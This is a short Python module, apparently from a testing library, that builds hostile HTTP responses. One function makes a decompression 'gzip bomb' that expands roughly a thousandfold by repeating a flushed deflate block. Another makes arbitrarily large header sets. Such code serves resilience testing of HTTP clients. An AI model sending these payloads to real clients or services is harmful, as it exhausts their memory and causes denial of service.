"""Answers that mean harm: a small body that unpacks to a huge one, and headers without measure.

Not here: when they are sent (`sabotage`).
"""

from __future__ import annotations

import struct
import zlib
from functools import lru_cache

from penstock.types import Headers

__all__ = ["gzip_bomb", "header_bomb"]

_BLOCK = 1024 * 1024
_GZIP_HEADER = b"\x1f\x8b\x08" + bytes(5) + b"\x02\xff"


@lru_cache(maxsize=4)
def gzip_bomb(decompressed_bytes: int) -> bytes:
    """A valid gzip file of so many blanks, rounded up to whole mebibytes; about a thousandth of that in size.

    After a full flush deflate forgets what came before: one compressed block can be repeated instead of made again.
    """
    blanks = b" " * _BLOCK
    deflate = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    block = deflate.compress(blanks) + deflate.flush(zlib.Z_FULL_FLUSH)
    count = max(1, -(-decompressed_bytes // _BLOCK))
    checksum = 0
    for _ in range(count):
        checksum = zlib.crc32(blanks, checksum)
    return _GZIP_HEADER + block * count + deflate.flush() + struct.pack("<II", checksum, count * _BLOCK % 2**32)


def header_bomb(header_bytes: int) -> Headers:
    """So many bytes of headers, in lines of about 1 KiB."""
    return tuple((f"x-bomb-{index}", "b" * 1000) for index in range(max(1, header_bytes // 1024)))
